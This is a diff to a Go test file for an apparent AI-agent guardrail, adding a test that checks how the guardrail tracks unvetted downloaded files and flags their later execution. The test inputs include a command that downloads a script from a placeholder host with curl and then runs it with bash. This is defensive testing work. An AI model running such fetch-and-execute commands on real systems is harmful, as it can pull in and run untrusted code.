@@ -2,6 +2,7 @@ package gates
 
 import (
 	"encoding/json"
+	"fmt"
 	"reflect"
 	"strings"
 	"testing"
@@ -209,6 +210,23 @@ func TestUnvettedFilesAskBeforeTheyRun(t *testing.T) {
 		part := NewContext(Call{Tool: tool, Args: []byte(args)}, second)
 		if f := part.After(); len(f.Unvetted) != 1 {
 			t.Errorf("a file changed in part by %s is taken for vetted", args)
+		}
+	}
+}
+
+func TestFlowIsBounded(t *testing.T) {
+	var g Guardrail
+	state := State{Cwd: "/w", Flow: Flow{SensitiveRead: true}}
+	for i := range 2 * maxFlow {
+		c := ShellContext(fmt.Sprintf("curl http://h.example > s%d.sh; touch same", i), state)
+		if state.Flow = c.After(); len(state.Flow.Derived) > maxFlow || len(state.Flow.Unvetted) > maxFlow {
+			t.Fatalf("call %d: %d derived, %d unvetted", i, len(state.Flow.Derived), len(state.Flow.Unvetted))
+		}
+	}
+	for _, command := range []string{"bash s0.sh", "bash s511.sh"} {
+		c := ShellContext(command, state)
+		if d := g.Decide(&c); !hasRule(d, "flow/unvetted") {
+			t.Errorf("%s is forgotten: %v", command, d.Reasons)
 		}
 	}
 }
